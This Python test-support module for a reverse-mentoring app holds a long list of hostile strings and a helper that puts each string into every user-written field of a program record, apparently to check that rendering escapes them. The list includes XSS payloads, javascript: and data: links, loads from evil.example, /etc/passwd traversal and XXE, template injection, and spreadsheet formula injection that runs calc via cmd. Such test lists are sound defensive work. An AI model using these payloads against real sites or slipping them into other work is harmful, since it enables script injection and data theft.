"""Texts that try to become more than text, and a reader that tells what a browser would make of a piece of HTML."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser

from reverse_mentoring.data.records import Link, Objective, Program, Session
from support.people import DEFAULT_TOPICS, cohort, pair, person, program, senior
from support.records import badge, change, kudos

HOSTILE = (
    "<script>fired(1)</script>",
    "</script><script>fired(2)</script>",
    "<img src=x onerror=fired(3)>",
    "<svg/onload=fired(4)>",
    '"><svg onload=fired(5)>',
    "' autofocus onfocus=fired(6) x='",
    '" autofocus onfocus=fired(7) x="',
    "<details open ontoggle=fired(8)>",
    "<iframe srcdoc='<script>parent.fired(9)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired(10)>",
    "</title><script>fired(11)</script>",
    "</style><img src=x onerror=fired(12)>",
    "--><script>fired(13)</script><!--",
    '<!--<img src="--><img src=x onerror=fired(14)//">',
    "]]><script>fired(15)</script>",
    "[a](javascript:fired(16))",
    "[a](JaVaScRiPt:fired(17))",
    "[a](javascript&#58;fired(18))",
    "[a](\x01javascript:fired(19))",
    "[a](data:text/html,<script>fired(20)</script>)",
    "[a](vbscript:fired(21))",
    "[a](//evil.example/22)",
    "[a](https:evil.example/23)",
    "[a](/\\evil.example/24)",
    '[a](https://a.example/"onmouseover=fired(25)")',
    '[a](https://a.example "title" onclick=fired(26))',
    "![a](https://evil.example/27.png)",
    "<https://evil.example/28>",
    "[a]: javascript:fired(29)\n\n[a]",
    "`</code><script>fired(30)</script>`",
    "**<b onclick=fired(31)>x</b>**",
    "- <script>fired(32)</script>\n  - [x](javascript:fired(33))",
    "{{ fired(34) }} {% raw %} ${fired(34)}",
    '--8<-- "/etc/passwd"',
    "!!! note\n    <script>fired(36)</script>",
    "&lt;script&gt;fired(37)&lt;/script&gt;",
    "&#60;script&#62;fired(38)&#60;/script&#62;",
    "<a href=&#106;avascript:fired(39)>x</a>",
    "<plaintext>",
    "<base href=https://evil.example/41/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/42'>",
    "<link rel=stylesheet href=https://evil.example/43.css>",
    "<form action=https://evil.example/44><button>x",
    "<x\tonclick=fired(45)>",
    "\u202e<script>fired(46)</script>",
    "#" * 200,
    "[" * 300 + "]" * 300,
    "* " * 150,
    "_*" * 150,
    "`" * 299,
    "<svg><script>fired(51)</script></svg>",
    "<svg><animate onbegin=fired(52) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:fired(53)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=fired(54)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=fired(55) />#x\"></svg>",
    "<svg><style><img src=x onerror=fired(56)></style></svg>",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=fired(57)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fired(58)>",
    "<noscript><p title='</noscript><img src=x onerror=fired(59)>'>",
    "<template><img src=x onerror=fired(60)></template><img src=x onerror=fired(60)>",
    "<object data=https://evil.example/61></object>",
    "<embed src=https://evil.example/62>",
    "<video src=x onerror=fired(63)></video>",
    "<video poster=https://evil.example/64.png></video>",
    "<audio autoplay src=https://evil.example/65.mp3></audio>",
    "<marquee onstart=fired(66)>x</marquee>",
    "<input autofocus onfocus=fired(67)>",
    "<style>@import 'https://evil.example/68.css';</style>",
    "<b style='background: url(https://evil.example/69.png)'>x</b>",
    "<style>@keyframes k { to { color: red } } b { animation: k 1s }</style><b onanimationstart=fired(70)>x</b>",
    "<link rel=preload as=image href=https://evil.example/71.png>",
    "<script src=https://evil.example/72.js></script>",
    "<script type=module>import 'https://evil.example/73.js'; fired(73)</script>",
    "<iframe src=javascript:parent.fired(74)></iframe>",
    "<iframe src='data:text/html,<script>parent.fired(75)</script>'></iframe>",
    "<img srcset='https://evil.example/76.png 2x'>",
    "<body onload=fired(77) onpageshow=fired(77)>",
    "<a href='jav&#x09;ascript:fired(78)'>x</a>",
    "<a href=javascript:fired(79)>x</a>",
    "<a href=# ping=https://evil.example/80>x</a>",
    "<button onclick=fired(81) popovertarget=x>x</button><p id=x popover onbeforetoggle=fired(81)>x</p>",
    "<a id=__config></a><form name=querySelector id=location><img name=body>",
    "<![CDATA[<script>fired(83)</script>]]>",
    "<?xml-stylesheet href='javascript:fired(84)'?><?php fired(84) ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\ufe64script\ufe65fired(86)\ufe64/script\ufe65",
    "\uff1cscript\uff1efired(87)\uff1c/script\uff1e",
    "%3Cscript%3Efired(88)%3C/script%3E",
    "\\u003cscript\\u003efired(89)\\x3c/script\\x3e",
    "{{ config.__class__.__mro__ }} {{ 7*7 }} {% include '/etc/passwd' %} {#",
    "#{7*7} <%= 7*7 %> {{constructor.constructor('fired(91)')()}}",
    "';fired(92);//",
    '\\";fired(93);//',
    "`${fired(94)}`",
    "jaVasCript:/*</title></style></textarea></noscript>-->\"'`<svg/onload=fired(95)>",
    '=HYPERLINK("https://evil.example/96","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "x\nATTENDEE:mailto:canary@evil.example",
    "x;VALUE=URI:https://evil.example/102,y\\nDTSTART:20200101T000000Z\\",
    "\u00fc" * 60,
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 " * 5 + "!",
    "\u2067\u202e\u2066 backwards",
    "in\u200bvis\u200dib\ufeffle\u00ad",
    "Z" + "\u0301\u0336" * 100,
    "Donaudampfschifffahrt" * 10,
    "\u6f22" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\x00<script>fired(111)</script>",
    "\x1b[31mred\x07",
    "100%s %n %(org)s %(name)d {0} {name}",
    "&nbsp;&#0;&#x110000;&#xD800;&lt;&lt &amp",
    "../../../etc/passwd",
    "__proto__",
    "[[a](https://b.example)](javascript:fired(117))",
    "![](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x]: data:text/html,x\n\n[y][x]",
    "**_`[x](https://a.example)`_**",
)
"""Each would call `fired`, reach another host, or break out of its place, if it were taken for markup."""

FORMATTED_TAGS = {"p", "br", "em", "strong", "code", "a", "ul", "ol", "li"}


class Reader(HTMLParser):
    """Collects the elements, attributes and text of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def read(html: str) -> Reader:
    """What a parser sees in `html`."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def program_of(text: str) -> Program:
    """A program with `text` in every field that people write, past all checks of its files."""
    mira, dan = "mira_northwind", "dan_northwind"
    people = [
        person(mira, name=text, about=text, languages=(text,), timezone=text), senior(dan, name=text, about=text),
    ]  # fmt: skip
    aim = Objective("learn", text, "both", text, date(2026, 11, 1), "open")
    session = Session("s1", datetime(2026, 11, 2, 14, tzinfo=UTC), 60, "planned", 0)
    made = program(
        people,
        cohorts=[cohort(title=text), cohort("2026-spring", title=text, status="closed")],
        topics={id_: replace(topic, name=text, aliases=(text,)) for id_, topic in DEFAULT_TOPICS.items()},
        pairs=[pair(mira, dan, objectives=(aim,), sessions=(session,), mentor_teaches=("generative-ai",))],
        kudos=(kudos(dan, mira, text=text),),
        changes=(change(dan, mira, title=text, text=text),),
        badges=(replace(badge("prepared-mentor", "person"), name=text, description=text),),
    )
    settings = replace(
        made.settings, name=text, about=text, mentor_name=text, mentee_name=text, support=(Link(text, text),)
    )  # fmt: skip
    return replace(made, settings=settings, orgs=tuple(replace(o, name=text, url=text) for o in made.orgs))
